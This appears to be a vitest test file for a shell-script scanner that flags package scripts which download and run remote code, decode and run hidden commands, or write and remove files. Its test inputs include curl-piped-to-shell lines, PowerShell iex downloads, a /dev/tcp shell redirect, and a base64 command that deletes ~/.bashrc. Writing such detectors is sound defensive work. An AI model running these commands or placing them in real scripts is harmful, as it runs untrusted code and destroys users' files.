import { describe, expect, test } from "vitest";
import type { Act } from "../../../src/scanner/shell/acts.ts";
import { ShellSession } from "../../../src/scanner/shell/session.ts";

interface Package {
  readonly scripts?: Readonly<Record<string, string>>;
  readonly files?: Readonly<Record<string, string>>;
}

function acts(text: string, { scripts = {}, files = {} }: Package = {}): readonly Act[] {
  const [lines, texts] = [new Map(Object.entries(scripts)), new Map(Object.entries(files))];
  const session = new ShellSession({
    script: (name) => lines.get(name) ?? null,
    text: (path) => texts.get(path) ?? null,
    variables: new Map([["HOME", "~"]]),
  });
  session.read(text, { file: "package.json", line: 1, excerpt: text });
  return session.acts;
}

/** The acts in words; commands are left out when something else is asked for. */
function told(found: readonly Act[], ...kinds: Act["kind"][]): string[] {
  return found
    .filter(({ kind }) => kinds.length === 0 || kinds.includes(kind))
    .map((act) => {
      switch (act.kind) {
        case "run":
          return ["run", act.program, ...act.args].join(" ");
        case "start":
          return `start ${act.path} as ${act.language}`;
        case "write":
          return `write ${act.path}${act.from === null ? "" : ` from ${act.from}`}`;
        case "remove":
          return `remove ${act.path}`;
        case "inline":
          return `inline ${act.language} ${act.code}`;
        case "script":
          return `script ${act.name}`;
        default:
          return act.kind;
      }
    });
}

describe("ShellSession", () => {
  test.each([
    ["through a pipe", "curl -s https://e.example | sh"],
    ["through a variable", "A=$(curl https://e.example); eval $A"],
    ["through a file", "wget https://e.example/a.sh -O b && cd . && sh b"],
    ["through a copy", "curl https://e.example -o a; cp a b; mv b c; ./c"],
    ["through an alias", "alias x=curl; x https://e.example | bash"],
    ["through a process substitution", "bash <(curl https://e.example)"],
    ["through a clone", "git clone https://e.example/x.git; ./x/run"],
    ["through an archive", "curl https://e.example -o a; tar -C d -xf a; d/run"],
    ["through wrappers", "sudo env A=1 nohup curl https://e.example | xargs sh -c"],
    ["through a network device", "sh < /dev/tcp/192.0.2.1/4444"],
    ["through an interpreter", "curl https://e.example | node"],
    [
      "by whichever program there is",
      'G=$(command -v curl || command -v wget); "$G" -qO- https://e.example > a; . a',
    ],
    ["by a program that is looked up", "$(which curl) https://e.example | sh"],
    ["through PowerShell", 'powershell -c "iex (iwr https://e.example)"'],
  ])("follows a download %s", (_, text) => {
    // A line that two shells would understand is told twice.
    expect(new Set(told(acts(text), "remote-code"))).toEqual(new Set(["remote-code"]));
  });

  test.each([
    ["a file that is only kept", "curl https://e.example -o data.json"],
    ["a text that is only printed", "curl https://e.example | cat"],
    ["a script of the package", "sh install.sh < /dev/null"],
    ["a command that asks where another is", "command -v curl | sh"],
    [
      "a program that is looked up and fetches nothing that runs",
      'G=$(command -v curl); "$G" -o data.json https://e.example',
    ],
  ])("does not take %s for code from elsewhere", (_, text) => {
    expect(told(acts(text), "remote-code")).toEqual([]);
  });

  test("tells decoded code, and reads it when the key is public", () => {
    const found = acts("echo cm0gfi8uYmFzaHJj | base64 -d | sh");

    expect(told(found, "decoded-code", "remove")).toEqual(["decoded-code", "remove ~/.bashrc"]);
  });

  test("knows where it stands when it writes, copies and removes", () => {
    const found = acts("cd lib; echo x > a; cp a ~/b; cd ..; rm lib/a; tee $HOME/c");

    expect(told(found, "write", "remove")).toEqual([
      "write lib/a",
      "write ~/b from lib/a",
      "remove lib/a",
      "write ~/c",
    ]);
  });

  test("tells what is started, in which language, and what nobody waits for", () => {
    const found = acts("node a.js; sh b; ./c.py & nohup perl -e 'print 1' > /dev/null 2>&1");

    expect(told(found, "start", "inline")).toEqual([
      "start a.js as javascript",
      "start b as shell",
      "start c.py as other",
      "inline other print 1",
    ]);
    const started = found.filter((act) => act.kind === "start");
    expect(started.map(({ detached }) => detached)).toEqual([false, false, true]);
    const perl = found.find((act) => act.kind === "run" && act.program === "perl");
    expect(perl).toMatchObject({ detached: true, silenced: true });
  });

  test("follows the package's own scripts and Makefile once each", () => {
    const scripts = { prebuild: "echo 1", build: "npm run build; make; yarn build", a: "x" };
    const files = { Makefile: "all:\n\t@npm run a\n\tgcc $$A\n" };
    const found = acts("npm run build", { scripts, files });

    expect(told(found, "script")).toEqual(["script prebuild", "script build", "script a"]);
    expect(told(found, "run")).toContain("run gcc ?");
  });

  test("reads a line for a Windows shell as well", () => {
    expect(told(acts("c^url https://e.example"))).toContain("run curl https://e.example");
  });

  test.each([
    ["nests without end", "A='eval $A'; eval $A"],
    ["doubles a variable", `A=${"x".repeat(100)};${"A=$A$A;".repeat(30)}${"echo $A;".repeat(500)}`],
    ["takes too many steps", "a;".repeat(30_000)],
    ["calls itself more than once", "A='eval $A;eval $A;eval $A';eval $A"],
    ["nests deeper than the parser reads", `echo ${"$(".repeat(100)}`],
  ])("says once that it did not read a text to its end that %s", (_, text) => {
    expect(told(acts(text), "unread")).toEqual(["unread"]);
  });

  test("gives the same place to everything that one text does", () => {
    const places = new Set(acts("curl x | sh; echo a > b").map(({ at }) => at));

    expect([...places]).toEqual([
      { file: "package.json", line: 1, excerpt: "curl x | sh; echo a > b" },
    ]);
  });
});
